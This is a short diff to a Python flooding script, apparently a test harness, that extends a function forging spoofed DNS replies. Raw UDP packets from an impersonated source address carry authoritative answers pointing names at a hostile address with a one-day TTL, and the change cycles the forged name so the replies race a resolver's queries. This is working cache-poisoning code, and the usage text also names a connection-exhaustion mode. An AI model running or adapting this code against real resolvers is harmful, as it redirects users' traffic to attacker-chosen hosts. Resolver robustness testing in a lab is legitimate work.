@@ -8,6 +8,7 @@ usage: python3 flood.py KIND RATE SECONDS SOURCES PATTERN TYPE
     connect  connections, of which each second one says nothing and the others ask and never read
 """
 import collections
+import itertools
 import json
 import random
 import selectors
@@ -25,6 +26,7 @@ FIRST_SOURCE = 100
 IMPERSONATED = "198.18.2.1"
 PULSE_S = 0.05
 LINGER_S = 0.3  # for the last answers
+FORGED_PER_NAME = 50
 
 
 def checksum(octets):
@@ -115,11 +117,12 @@ def send_raw(rate, seconds, packet):
 
 
 def forge(rate, seconds, sources, pattern, qtype):
-    """The reply that a resolver waits for while the good client asks for names of this zone."""
-    qname = pattern.replace("{i}", "1")
-    body = wire.name(qname) + struct.pack("!HH", qtype, 1) + wire.address(qname, hostile.FORGED, 86400)
+    """Replies that a resolver waits for while the good client asks for names of this zone, one after the other."""
+    numbers = itertools.count()
 
     def packet():
+        qname = pattern.replace("{i}", str(next(numbers) // FORGED_PER_NAME))
+        body = wire.name(qname) + struct.pack("!HH", qtype, 1) + wire.address(qname, hostile.FORGED, 86400)
         said = wire.HEADER.pack(random.getrandbits(16), wire.QR | wire.AA, 1, 1, 0, 0) + body
         udp = struct.pack("!4H", 53, random.randrange(1024, 65536), 8 + len(said), 0) + said
         return ip_header(IMPERSONATED, TARGET, socket.IPPROTO_UDP, len(udp)) + udp
